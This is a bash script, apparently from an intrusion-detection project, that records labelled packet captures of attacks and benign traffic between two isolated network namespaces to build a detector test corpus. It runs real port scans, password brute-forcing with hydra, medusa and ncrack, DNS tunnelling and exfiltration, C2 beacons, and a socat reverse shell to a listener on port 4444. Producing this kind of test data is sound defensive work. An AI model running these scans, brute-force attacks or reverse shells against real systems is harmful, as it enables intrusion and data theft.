#!/usr/bin/env bash
# Records the attack corpus (root): real tools between two network namespaces this script creates
# and removes; traffic goes nowhere else.
#   al-a  attacker / clients  10.70.0.10/24, 198.51.100.10/24 ("public"), fd70::10/64
#   al-v  victim / servers    10.70.0.20-26/24, 10.70.0.100-119, 203.0.113.20-24/24, fd70::20/64
#         10.71.0.0/24 is routed to al-v and dropped there, as a firewall would (unanswered probes)
# Each scenario writes OUT/NAME.pcap and OUT/NAME.truth: one JSON object per incident, written
# from what the script ran (kind, src, dst or dsts, ports, start, end); a benign scenario's truth
# file is empty. Periodic behaviours with long periods are recorded at a short period and their
# timestamps stretched (attack_helpers.py dilate); the truth is stretched the same way.
set -euo pipefail
out=${1:-Fixtures/attacks}
here=$(cd "$(dirname "$0")" && pwd)
mkdir -p "$out"
out=$(cd "$out" && pwd)
A=al-a V=al-v
H="python3 $here/attack_helpers.py"
tmp=$(mktemp -d /tmp/aether-record.XXXXXX)
pids=()
cleanup() {
  for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
  ip netns pids $A 2>/dev/null | xargs -r kill 2>/dev/null || true
  ip netns pids $V 2>/dev/null | xargs -r kill 2>/dev/null || true
  sleep 0.5
  ip netns del $A 2>/dev/null || true
  ip netns del $V 2>/dev/null || true
  rm -rf "$tmp"
}
trap cleanup EXIT
cleanup 2>/dev/null || true
tmp=$(mktemp -d /tmp/aether-record.XXXXXX)

ip netns add $A; ip netns add $V
ip link add va netns $A type veth peer name vv netns $V
ip -n $A addr add 10.70.0.10/24 dev va
ip -n $A addr add 198.51.100.10/24 dev va
ip -n $A -6 addr add fd70::10/64 dev va nodad
ip -n $V addr add 10.70.0.20/24 dev vv
for i in 21 22 23 24 25 26; do ip -n $V addr add 10.70.0.$i/24 dev vv; done
for i in $(seq 100 119); do ip -n $V addr add 10.70.0.$i/24 dev vv; done
for i in 20 21 22 23 24; do ip -n $V addr add 203.0.113.$i/24 dev vv; done
ip -n $V -6 addr add fd70::20/64 dev vv nodad
for ns in $A $V; do
  ip -n $ns link set lo up
  ip netns exec $ns sysctl -qw net.ipv4.conf.all.rp_filter=0 net.ipv4.icmp_ratelimit=0 net.ipv6.icmp.ratelimit=0
done
ip -n $A link set va up; ip -n $V link set vv up
ip -n $A route add 203.0.113.0/24 dev va src 198.51.100.10
ip -n $V route add 198.51.100.0/24 dev vv src 203.0.113.20
ip -n $A route add 10.71.0.0/24 via 10.70.0.20
ip -n $A route add 224.0.0.0/4 dev va
ip -n $V route add blackhole 10.71.0.0/24
sleep 1

now() { date +%s.%N; }
# truth NAME KIND SRC TARGET PORTS START END: TARGET is an address or a comma list (a sweep).
truth() {
  python3 - "$@" >>"$out/$1.truth" <<'PY'
import json, sys
_, name, kind, src, target, ports, start, end = sys.argv
o = {"kind": kind, "src": src}
if "," in target or target.endswith("/sweep"):
    o["dsts"] = [t for t in target.replace("/sweep", "").split(",") if t]
else:
    o["dst"] = target
o["ports"] = [int(p) for p in ports.split(",") if p]
o["start"] = float(start); o["end"] = float(end)
print(json.dumps(o))
PY
}
capture_start() { # NAME [FILTER...]
  local name=$1; shift
  : >"$out/$name.truth"
  ip netns exec $A tcpdump -q -U -s "${SNAP:-0}" -i va -w "$tmp/$name.pcap" "$@" 2>/dev/null & cap_pid[$name]=$!
  pids+=("${cap_pid[$name]}")
  sleep 1
}
capture_stop() { # NAME [DILATE]
  local name=$1 factor=${2:-1}
  sleep 1
  kill -INT "${cap_pid[$name]}" 2>/dev/null || true
  wait "${cap_pid[$name]}" 2>/dev/null || true
  if [ "$factor" != 1 ]; then
    $H dilate "$tmp/$name.pcap" "$factor" "$out/$name.pcap"
    python3 - "$out/$name.truth" "$out/$name.pcap" "$factor" <<'PY'
import json, struct, sys
path, pcap, f = sys.argv[1], sys.argv[2], float(sys.argv[3])
with open(pcap, "rb") as h:
    h.seek(24); sec, frac = struct.unpack("<II", h.read(8))
first = sec + frac / 1e6
rows = [json.loads(l) for l in open(path) if l.strip()]
with open(path, "w") as h:
    for r in rows:
        r["start"] = first + (r["start"] - first) * f
        r["end"] = first + (r["end"] - first) * f
        h.write(json.dumps(r) + "\n")
PY
  else
    cp "$tmp/$name.pcap" "$out/$name.pcap"
  fi
  echo "recorded $name: $(stat -c %s "$out/$name.pcap") bytes, $(wc -l <"$out/$name.truth") incidents" >&2
}
declare -A cap_pid
ra() { ip netns exec $A "$@"; }
rv() { ip netns exec $V "$@"; }

# ---------------------------------------------------------------- servers in al-v
openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=updates.example -keyout "$tmp/cert.pem" -out "$tmp/crt.pem" 2>/dev/null
cat "$tmp/crt.pem" >>"$tmp/cert.pem"
rv $H http_server 0.0.0.0 80 & pids+=($!)
rv $H http_server 0.0.0.0 8080 & pids+=($!)
rv $H http_server 0.0.0.0 443 "$tmp/cert.pem" & pids+=($!)
rv $H echo_server 0.0.0.0 7 & pids+=($!)
rv $H echo_server 0.0.0.0 4444 & pids+=($!)
rv $H telnet_server 0.0.0.0 23 & pids+=($!)
rv $H txt_server 127.0.0.1 5302 & pids+=($!)

id alice >/dev/null 2>&1 || useradd -m -s /bin/sh alice
echo 'alice:Corr3ct-Horse-Battery' | chpasswd
mkdir -p /run/sshd ~alice/.ssh
ssh-keygen -q -t ed25519 -N '' -f "$tmp/hostkey"
ssh-keygen -q -t ed25519 -N '' -f "$tmp/userkey"
cp "$tmp/userkey.pub" ~alice/.ssh/authorized_keys; chown -R alice ~alice/.ssh; chmod 700 ~alice/.ssh
cat >"$tmp/sshd_config" <<EOF
Port 22
Port 2222
ListenAddress 0.0.0.0
ListenAddress ::
HostKey $tmp/hostkey
PidFile $tmp/sshd.pid
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
PermitRootLogin no
MaxStartups 100:30:200
EOF
rv /usr/sbin/sshd -D -f "$tmp/sshd_config" -E "$tmp/sshd.log" & pids+=($!)
mkdir -p /var/run/vsftpd/empty
for port in 21 2121; do
  cat >"$tmp/vsftpd-$port.conf" <<EOF
listen=YES
listen_port=$port
background=NO
anonymous_enable=NO
local_enable=YES
pam_service_name=vsftpd
secure_chroot_dir=/var/run/vsftpd/empty
max_per_ip=0
max_clients=0
delay_failed_login=0
EOF
  rv /usr/sbin/vsftpd "$tmp/vsftpd-$port.conf" & pids+=($!)
done
cat >"$tmp/dnsmasq.conf" <<EOF
no-resolv
no-hosts
no-poll
listen-address=10.70.0.20
bind-interfaces
cache-size=0
server=/tun.example/127.0.0.1#5300
server=/d2t.example/127.0.0.1#5301
server=/cmd.example/127.0.0.1#5302
address=/www.example.org/10.70.0.20
address=/mail.example.org/10.70.0.20
address=/cdn.example.org/10.70.0.22
address=/intranet.example.org/10.70.0.21
local=/com/net/info/ru/
server=127.0.0.1#5302
EOF
rv dnsmasq -k -C "$tmp/dnsmasq.conf" --pid-file="$tmp/dnsmasq.pid" -u root & pids+=($!)
rv iodined -f -l 127.0.0.1 -p 5300 -P s3cretpw 172.30.0.1/24 tun.example >/dev/null 2>&1 & pids+=($!)
cat >"$tmp/dns2tcpd.conf" <<EOF
listen = 127.0.0.1
port = 5301
user = root
chroot = $tmp
domain = d2t.example
resources = echo:127.0.0.1:7
EOF
rv dns2tcpd -F -f "$tmp/dns2tcpd.conf" >/dev/null 2>&1 & pids+=($!)
for i in $(seq 1 40); do echo "wrong-$i"; done >"$tmp/words"
head -12 "$tmp/words" >"$tmp/words12"
sleep 2

# ---------------------------------------------------------------- scenario helpers
scan() { # NAME TARGET PORTS NMAP-ARGS...: a port_scan of TARGET from 10.70.0.10
  local name=$1 target=$2 ports=$3 kind=${KIND:-port_scan}; shift 3
  capture_start "$name"
  local t0; t0=$(now)
  ra nmap -n -T4 --max-retries 0 "$@" "$target" >/dev/null 2>&1 || true
  truth "$name" "$kind" "${SRC:-10.70.0.10}" "$target" "" "$t0" "$(now)"
  capture_stop "$name"
}
sweep() { # NAME KIND TARGETS-LIST NMAP-ARGS...
  local name=$1 kind=$2 list=$3; shift 3
  capture_start "$name"
  local t0; t0=$(now)
  ra nmap -n "$@" >/dev/null 2>&1 || true
  truth "$name" "$kind" 10.70.0.10 "$list/sweep" "" "$t0" "$(now)"
  capture_stop "$name"
}
brute() { # NAME DST PORT TOOL-ARGS...
  local name=$1 dst=$2 port=$3; shift 3
  capture_start "$name"
  local t0; t0=$(now)
  ra "$@" >/dev/null 2>&1 || true
  truth "$name" brute_force 10.70.0.10 "$dst" "$port" "$t0" "$(now)"
  capture_stop "$name"
}
dnsrun() { # NAME KIND SECONDS CMD...
  local name=$1 kind=$2 secs=$3; shift 3
  capture_start "$name" udp port 53
  local t0; t0=$(now)
  ra timeout "$secs" "$@" >/dev/null 2>&1 || true
  truth "$name" "$kind" 10.70.0.10 10.70.0.20 53 "$t0" "$(now)"
  capture_stop "$name"
}
iodine_run() { # NAME ARGS...
  local name=$1; shift
  capture_start "$name" udp port 53
  local t0; t0=$(now)
  ra iodine -f -r -m 700 -P s3cretpw "$@" 10.70.0.20 tun.example >"$tmp/$name.log" 2>&1 & local io=$!
  for _ in $(seq 1 30); do grep -q "setup complete" "$tmp/$name.log" && break; sleep 1; done
  ra ping -c 30 -i 0.2 -s 400 172.30.0.1 >/dev/null 2>&1 || true
  kill "$io" 2>/dev/null; wait "$io" 2>/dev/null || true
  truth "$name" dns_tunnel 10.70.0.10 10.70.0.20 53 "$t0" "$(now)"
  capture_stop "$name"
}
beacon() { # NAME SRC DST PORT INTERVAL JITTER COUNT tls|plain [DILATE]
  local name=$1 src=$2 dst=$3 port=$4 iv=$5 jit=$6 n=$7 mode=$8 factor=${9:-1}
  (
    capture_start "$name" host "$dst"
    t0=$(now)
    ra $H http_beacon "$dst" "$port" "$iv" "$jit" "$n" "$mode"
    truth "$name" beacon "$src" "$dst" "$port" "$t0" "$(now)"
    capture_stop "$name" "$factor"
  ) & bpids+=($!)
}
benign() { # NAME SECONDS CMD...
  local name=$1 secs=$2; shift 2
  capture_start "$name"
  ra timeout "$secs" "$@" >/dev/null 2>&1 || true
  capture_stop "$name"
}

if [ -z "${ROUND2_ONLY:-}" ]; then
# ---------------------------------------------------------------- scans
scan nmap-syn 10.70.0.20 "" -sS -p 1-300
scan nmap-connect 10.70.0.20 "" -sT -p 1-300
scan nmap-fin 10.70.0.20 "" -sF -p 1-300
scan nmap-xmas 10.70.0.20 "" -sX -p 1-300
scan nmap-null 10.70.0.20 "" -sN -p 1-300
scan nmap-ack 10.70.0.20 "" -sA -p 1-300
scan nmap-maimon 10.70.0.20 "" -sM -p 1-300
KIND=udp_scan scan nmap-udp 10.70.0.20 "" -sU -p 1-100
scan nmap-ipproto 10.70.0.20 "" -sO
SRC=fd70::10 scan nmap-ipv6 fd70::20 "" -6 -sS -p 1-300
SRC=198.51.100.10 scan nmap-public 203.0.113.20 "" -sS -p 1-300 -S 198.51.100.10 -e va

# A small fast sweep: 14 consecutive addresses, nothing answers.
sweep ping-sweep-small ping_sweep "$(seq -s, -f 10.71.0.%g 1 14)" -sn -PE --send-ip --max-retries 0 10.71.0.1-14
sweep ping-sweep-timestamp ping_sweep "$(seq -s, -f 10.71.0.%g 1 40)" -sn -PP --send-ip --max-retries 0 10.71.0.1-40
sweep arp-sweep host_sweep "$(seq -s, -f 10.70.0.%g 30 60)" -sn -PR 10.70.0.30-60
sweep nmap-sweep-445 host_sweep "$(seq -s, -f 10.71.0.%g 1 60)" -sS -Pn -p 445 --max-retries 0 -T4 10.71.0.1-60

capture_start masscan
t0=$(now)
ra masscan -p1-400 --rate 2000 --wait 1 --router-ip 10.70.0.20 --adapter-ip 10.70.0.10 -e va 10.70.0.20 >/dev/null 2>&1 || true
truth masscan port_scan 10.70.0.10 10.70.0.20 "" "$t0" "$(now)"
capture_stop masscan

capture_start zmap
t0=$(now)
gw=$(ra ip neigh show 10.70.0.20 | awk '{print $5; exit}')
[ -n "$gw" ] || { ra ping -c1 -W1 10.70.0.20 >/dev/null; gw=$(ra ip neigh show 10.70.0.20 | awk '{print $5; exit}'); }
ra zmap -q -p 80 -i va -S 10.70.0.10 -G "$gw" -r 2000 -c 1 --blacklist-file=/dev/null 10.71.0.0/26 >/dev/null 2>&1 || true
truth zmap host_sweep 10.70.0.10 "$(seq -s, -f 10.71.0.%g 0 63)/sweep" 80 "$t0" "$(now)"
capture_stop zmap

capture_start hping3
t0=$(now)
ra timeout 20 hping3 --scan 1-200 -S 10.70.0.20 >/dev/null 2>&1 || true
truth hping3 port_scan 10.70.0.10 10.70.0.20 "" "$t0" "$(now)"
capture_stop hping3

# Slow: one probe every 2 s, stretched 12 times (one every 24 s: 12 in five minutes, 25 in ten).
capture_start slow-scan
t0=$(now)
ra nmap -n -sS --max-retries 0 --scan-delay 2s -p 1-25 10.70.0.26 >/dev/null 2>&1 || true
truth slow-scan slow_scan 10.70.0.10 10.70.0.26 "" "$t0" "$(now)"
capture_stop slow-scan 12

# ---------------------------------------------------------------- password guessing
brute hydra-ssh 10.70.0.20 22 hydra -l alice -P "$tmp/words" -t 4 -I ssh://10.70.0.20
brute hydra-ssh-2222 10.70.0.20 2222 hydra -l alice -P "$tmp/words" -t 4 -I -s 2222 ssh://10.70.0.20
brute medusa-ftp 10.70.0.20 21 medusa -M ftp -h 10.70.0.20 -u alice -P "$tmp/words" -t 4
brute hydra-ftp-2121 10.70.0.20 2121 hydra -l alice -P "$tmp/words" -t 4 -I -s 2121 ftp://10.70.0.20
brute ncrack-telnet 10.70.0.20 23 ncrack --user alice -P "$tmp/words12" -T5 telnet://10.70.0.20:23

# ---------------------------------------------------------------- DNS tunnels, C2 over DNS, DGA
iodine_run iodine-null-raw -T NULL -O raw
iodine_run iodine-txt-base32 -T TXT -O base32
iodine_run iodine-cname-base64 -T CNAME -O base64
capture_start dns2tcp udp port 53
t0=$(now)
ra dns2tcpc -z d2t.example -r echo -l 2207 10.70.0.20 >/dev/null 2>&1 & d2t=$!
sleep 2
ra python3 -c "
import socket,time
s=socket.create_connection(('127.0.0.1',2207),timeout=20)
for i in range(20):
    s.sendall(b'%05d'%i + b'x'*200); s.recv(4096); time.sleep(0.1)
" >/dev/null 2>&1 || true
kill $d2t 2>/dev/null; wait $d2t 2>/dev/null || true
truth dns2tcp dns_tunnel 10.70.0.10 10.70.0.20 53 "$t0" "$(now)"
capture_stop dns2tcp
dnsrun dnscat-marker dns_tunnel 60 $H dnscat 10.70.0.20 150 0.05
dnsrun txt-c2 dns_tunnel 60 $H txt_c2 10.70.0.20 cmd.example 60 0.2
dnsrun dga-nxdomain dga 60 $H dga 10.70.0.20 80 0.05

# ---------------------------------------------------------------- beacons and outbound (in parallel)
bpids=()
beacon beacon-http-2s 10.70.0.10 10.70.0.21 80 2 0 60 plain
beacon beacon-https-2s-public 198.51.100.10 203.0.113.22 443 2 0.2 60 tls
beacon beacon-http-30s 10.70.0.10 10.70.0.23 80 2 0.1 40 plain 15
beacon beacon-https-300s-public 198.51.100.10 203.0.113.24 443 3 0.3 30 tls 100
(
  capture_start beacon-keepalive host 10.70.0.25
  t0=$(now)
  ra $H keepalive_beacon 10.70.0.25 8080 2 50
  truth beacon-keepalive beacon 10.70.0.10 10.70.0.25 8080 "$t0" "$(now)"
  capture_stop beacon-keepalive
) & bpids+=($!)
(
  capture_start revshell-public host 203.0.113.23
  t0=$(now)
  ra $H revshell 203.0.113.23 4444 5
  truth revshell-public suspicious_outbound 198.51.100.10 203.0.113.23 4444 "$t0" "$(now)"
  capture_stop revshell-public
) & bpids+=($!)
wait "${bpids[@]}"

# ---------------------------------------------------------------- benign look-alikes (empty truth)
# A busy server: 200 clients (addresses of their own), a few requests each.
for i in $(seq 1 200); do ip -n $A addr add 10.70.2.$i/16 dev va; done
ip -n $V route add 10.70.2.0/24 dev vv
benign busy-server 120 bash -c 'for r in 1 2; do for i in $(seq 1 200); do curl -s -o /dev/null --interface 10.70.2.$i http://10.70.0.20/page$r & done; wait; done'
benign resolver-clients 120 bash -c 'for i in $(seq 1 100); do python3 -c "
import socket,sys,random
sys.path.insert(0,\"'"$here"'\")
import attack_helpers as h
for n in [\"www.example.org\",\"mail.example.org\",\"cdn.example.org\",\"intranet.example.org\"]:
    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.bind((\"10.70.2.$i\",0)); s.settimeout(1)
    s.sendto(h.dns_query(n),(\"10.70.0.20\",53)); s.recv(512); s.close()
" & done; wait'
ip -n $A addr flush dev va to 10.70.2.0/24 2>/dev/null || true
# A monitor pinging the same 20 hosts every 30 s (recorded every 3 s, stretched 10 times).
capture_start ping-monitor icmp
ra $H pinger "$(seq -s, -f 10.70.0.%g 100 119)" 6 3
capture_stop ping-monitor 10
benign browser-parallel 60 bash -c 'for r in $(seq 1 5); do for i in $(seq 1 8); do curl -s -o /dev/null http://10.70.0.20/obj$r-$i & done; wait; done; for i in $(seq 1 6); do curl -sk -o /dev/null https://10.70.0.20/x$i & done; wait'
SNAP=200 benign backup-transfer 120 bash -c 'for i in 1 2 3; do curl -s -o /dev/null http://10.70.0.20/big$i; done; ssh -i '"$tmp"'/userkey -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null alice@10.70.0.20 "cat > /dev/null" < <(head -c 3000000 /dev/urandom)'
benign ssh-jump-logins 120 bash -c 'for i in $(seq 1 25); do ssh -i '"$tmp"'/userkey -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null alice@10.70.0.20 "uname -a; id; ls /" ; done'
benign ftp-logins 60 bash -c 'for i in $(seq 1 15); do curl -s -o /dev/null --user alice:Corr3ct-Horse-Battery ftp://10.70.0.20/ ; done'
benign tls-cdn-sessions 60 bash -c 'for i in $(seq 1 80); do curl -sk -o /dev/null https://203.0.113.21/asset$i; sleep 0.$((RANDOM % 9)); done'
benign lan-chatter 40 $H chatter 10.70.0.10 30
# One connection kept up by TCP keep-alive probes every 2 s, stretched 200 times (400 s gaps,
# past the 5-minute TCP idle timeout: the connection table cuts it into many pieces). Not a
# beacon; a long connection (RITA's), reported once whole across its pieces.
capture_start long-keepalive host 10.70.0.20 and port 7
t0=$(now)
ra $H keepalive_idle 10.70.0.20 7 30 || true
truth long-keepalive long_connection 10.70.0.10 10.70.0.20 7 "$t0" "$(now)"
capture_stop long-keepalive 200
fi

# ---------------------------------------------------------------- round two (ROUND2_ONLY=1 records only these)
# Password guessing that keeps its connections: every refusal counts, not every connection.
rv $H login_server 0.0.0.0 110 pop3 & pids+=($!)
rv $H login_server 0.0.0.0 143 imap & pids+=($!)
mkdir -p "$tmp/smb/private" "$tmp/smb/lock" "$tmp/smb/state" "$tmp/smb/cache" "$tmp/smb/pid" "$tmp/share"
cat >"$tmp/smb.conf" <<EOF
[global]
server role = standalone server
interfaces = 10.70.0.20
bind interfaces only = yes
smb ports = 445
server min protocol = NT1
ntlm auth = yes
disable netbios = yes
passdb backend = tdbsam:$tmp/smb/private/passdb.tdb
private dir = $tmp/smb/private
lock directory = $tmp/smb/lock
state directory = $tmp/smb/state
cache directory = $tmp/smb/cache
pid directory = $tmp/smb/pid
log file = $tmp/smb/log
[share]
path = $tmp/share
EOF
printf 'Corr3ct-Horse-Battery\nCorr3ct-Horse-Battery\n' | smbpasswd -c "$tmp/smb.conf" -a -s alice >/dev/null
rv smbd --foreground --no-process-group -s "$tmp/smb.conf" & pids+=($!)
printf 'alice\n' >"$tmp/users"
sleep 3
brute hydra-http-keepalive 10.70.0.20 80 hydra -l alice -P "$tmp/words" -t 1 -I http-get://10.70.0.20/admin
brute hydra-pop3 10.70.0.20 110 hydra -l alice -P "$tmp/words" -t 1 -I pop3://10.70.0.20
brute hydra-imap 10.70.0.20 143 hydra -l alice -P "$tmp/words" -t 1 -I imap://10.70.0.20
# The password is the last guess: the alert says the login was accepted after the failures.
{ cat "$tmp/words12"; echo Corr3ct-Horse-Battery; } >"$tmp/words-guessed"
brute hydra-pop3-guessed 10.70.0.20 110 hydra -l alice -P "$tmp/words-guessed" -t 1 -I pop3://10.70.0.20
brute nmap-smb-brute 10.70.0.20 445 nmap -n -p445 --script smb-brute --script-args "userdb=$tmp/users,passdb=$tmp/words,unpwdb.timelimit=0" 10.70.0.20

# Sweeps whose positive answer is a RST (ACK ping) or an ICMP unreachable (UDP ping): 20 live
# hosts among 50 addresses.
sweep nmap-ack-sweep host_sweep "$(seq -s, -f 10.70.0.%g 100 119),$(seq -s, -f 10.71.0.%g 1 30)" -sn -PA80 --send-ip --max-retries 0 10.70.0.100-119 10.71.0.1-30
sweep nmap-udp-sweep host_sweep "$(seq -s, -f 10.70.0.%g 100 119),$(seq -s, -f 10.71.0.%g 1 30)" -sn -PU --send-ip --max-retries 0 10.70.0.100-119 10.71.0.1-30

# A reverse shell between two internal hosts: the victim (10.70.0.20) calls the attacker's
# listener on 4444 and runs what it is sent.
capture_start socat-revshell-internal host 10.70.0.10 and port 4444
t0=$(now)
ra bash -c '(sleep 2; echo id; sleep 1; echo "uname -a"; sleep 1; echo "ls /"; sleep 1; echo exit) | timeout 20 socat TCP-LISTEN:4444,reuseaddr - >/dev/null' & sh_pid=$!
sleep 1
rv timeout 20 socat TCP:10.70.0.10:4444 EXEC:/bin/sh >/dev/null 2>&1 || true
wait $sh_pid 2>/dev/null || true
truth socat-revshell-internal suspicious_outbound 10.70.0.20 10.70.0.10 4444 "$t0" "$(now)"
capture_stop socat-revshell-internal

# Thin DNS exfiltration: 12 names of about 220 bytes, one every second.
dnsrun dns-exfil-long dns_tunnel 60 $H long_names 10.70.0.20 exf.example 12 1

# Benign: a peer-to-peer client fanning out to 50 candidates on one port: 20 answer and it
# keeps talking to them; 30 never answer. A sweep would move on.
rv $H udp_pong "$(seq -s, -f 10.70.0.%g 100 119)" 6881 & pids+=($!)
sleep 1
benign p2p-fanout 70 $H p2p "$(seq -s, -f 10.70.0.%g 100 119),$(seq -s, -f 10.71.0.%g 1 30)" 6881 60

# Benign: IPsec ESP in transport mode between two public hosts (VPN-like), carrying web
# requests and pings. Needs a kernel with ESP (xfrm esp4); where it has none, it is skipped.
if ip -n $A xfrm state add src 192.0.2.1 dst 192.0.2.2 proto esp spi 0x1fff mode transport enc 'cbc(aes)' 0x$(openssl rand -hex 16) auth-trunc 'hmac(sha256)' 0x$(openssl rand -hex 32) 128 2>/dev/null; then
ip -n $A xfrm state flush
enc=0x$(openssl rand -hex 16) auth=0x$(openssl rand -hex 32)
for ns in $A $V; do
  for dir in "198.51.100.10 203.0.113.21 0x1001" "203.0.113.21 198.51.100.10 0x1002"; do
    set -- $dir
    ip -n $ns xfrm state add src "$1" dst "$2" proto esp spi "$3" reqid 1 mode transport enc 'cbc(aes)' "$enc" auth-trunc 'hmac(sha256)' "$auth" 128
  done
done
ip -n $A xfrm policy add src 198.51.100.10 dst 203.0.113.21 dir out tmpl proto esp reqid 1 mode transport
ip -n $A xfrm policy add src 203.0.113.21 dst 198.51.100.10 dir in tmpl proto esp reqid 1 mode transport
ip -n $V xfrm policy add src 203.0.113.21 dst 198.51.100.10 dir out tmpl proto esp reqid 1 mode transport
ip -n $V xfrm policy add src 198.51.100.10 dst 203.0.113.21 dir in tmpl proto esp reqid 1 mode transport
benign ipsec-esp 60 bash -c 'for i in $(seq 1 20); do curl -s -o /dev/null http://203.0.113.21/vpn$i; ping -c 1 -W 1 203.0.113.21 >/dev/null; sleep 0.5; done'
for ns in $A $V; do ip -n $ns xfrm policy flush; ip -n $ns xfrm state flush; done
else
  echo "skipped ipsec-esp: this kernel has no IPsec ESP (xfrm)" >&2
fi

echo "corpus in $out" >&2
